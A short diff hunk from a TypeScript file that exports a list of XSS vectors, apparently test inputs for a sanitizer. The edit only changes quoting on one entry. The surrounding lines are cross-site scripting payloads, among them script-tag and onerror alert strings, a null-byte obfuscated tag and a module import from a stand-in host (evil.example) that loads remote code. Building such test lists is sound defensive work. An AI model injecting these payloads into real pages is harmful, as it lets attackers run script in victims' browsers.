@@ -15,7 +15,7 @@ export const xssVectors: readonly string[] = [
   '<scr\0ipt>alert(7)</scr\0ipt>',
   '<script type="module">import "https://evil.example/m.js"</script>',
   '"><script>alert(8)</script>',
-  '\'><script>alert(9)</script>',
+  "'><script>alert(9)</script>",
   '</p></div></main><script>alert(10)</script>',
   // Event handlers.
   '<img src=x onerror=alert(11)>',
